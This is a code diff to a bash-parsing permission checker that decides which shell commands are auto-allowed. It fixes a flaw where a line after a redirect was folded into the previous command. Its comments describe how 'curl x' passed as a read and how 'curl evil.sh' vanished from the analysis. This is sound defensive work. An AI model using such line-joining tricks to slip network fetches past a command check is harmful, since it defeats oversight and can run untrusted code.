@@ -228,7 +228,8 @@ def _lines_apart(data: bytes, tree: Tree, finished: bool, walk: Walk) -> tuple[b
     tree-sitter-bash 0.25 reads ``a | b | c`` followed by a line that ends in a redirect
     (``d 2>/dev/null``) as one pipeline whose last command is ``c d``: the line break
     between them becomes a space between words, and ``ls | ls | cat`` then ``curl x``
-    passed for ``cat curl x``, a read. Bash ends a command at a line break outside
+    passed for ``cat curl x``, a read. After ``a | b | c | d 2>/dev/null`` it took the
+    next line's words for more of the redirect's destinations. Bash ends a command at a line break outside
     quotes, as at ``;``: each such break inside a command is read as the ``;`` it is,
     and the line parsed again. Should the parser still join lines, the line never
     auto-allows.
@@ -246,14 +247,20 @@ def _lines_apart(data: bytes, tree: Tree, finished: bool, walk: Walk) -> tuple[b
     return bytes(apart), tree, finished
 
 
+# Nodes bash ends at a line break: a command's words, a redirect's destination (after
+# ``a | b | c | d 2>/dev/null`` the parser took the next line's words as more destinations,
+# so ``curl evil.sh`` there vanished from the analysis).
+_ONE_LINE = frozenset({"command", "file_redirect"})
+
+
 def _joined_line_breaks(root: Node, data: bytes) -> list[int]:
-    """Offsets of the line breaks between the words of one command (not a ``\\`` continuation)."""
+    """Offsets of the line breaks inside a node that ends at one (not a ``\\`` continuation)."""
     breaks: list[int] = []
     stack = [root]
     while stack:
         node = stack.pop()
         children = node.children
-        if node.type == "command":
+        if node.type in _ONE_LINE:
             for before, after in itertools.pairwise(children):
                 gap = data.find(b"\n", before.end_byte, after.start_byte)
                 while gap != -1:
